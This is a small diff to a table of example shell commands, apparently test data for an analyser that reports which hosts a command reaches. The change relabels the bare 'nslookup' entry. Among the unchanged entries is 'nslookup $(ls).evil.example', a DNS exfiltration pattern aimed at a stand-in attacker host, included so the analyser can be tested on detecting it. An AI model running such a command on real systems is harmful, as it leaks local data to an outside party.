@@ -195,7 +195,7 @@ EXAMPLES = {
     "dig": "reach a.root-servers.net",
     "nslookup example.com": "reach example.com",
     "nslookup -type=mx example.com 8.8.8.8": "reach example.com | reach 8.8.8.8",
-    "nslookup": "blind nslookup: what it asks for is not known",
+    "nslookup": "note nslookup | blind nslookup: what it asks for is not known",
     "nslookup $(ls).evil.example": "list . | reach $(ls).evil.example"
     " | blind nslookup: a word is not known (output of a command)"
     " | blind nslookup: host is not known (output of a command)",
